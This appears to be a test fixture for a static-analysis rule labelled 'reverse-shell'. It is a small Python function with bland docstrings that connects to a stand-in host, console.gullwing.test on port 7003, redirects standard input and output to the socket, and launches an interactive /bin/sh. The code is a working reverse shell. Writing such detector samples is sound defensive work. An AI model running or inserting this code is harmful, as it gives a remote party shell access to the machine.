"""The console."""

import os
import socket
import subprocess


def attend() -> None:
    """Attends to the console."""
    link = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    link.connect(("console.gullwing.test", 7003))
    os.dup2(link.fileno(), 0)
    os.dup2(link.fileno(), 1)
    # ruleid: reverse-shell
    subprocess.call(["/bin/sh", "-i"])
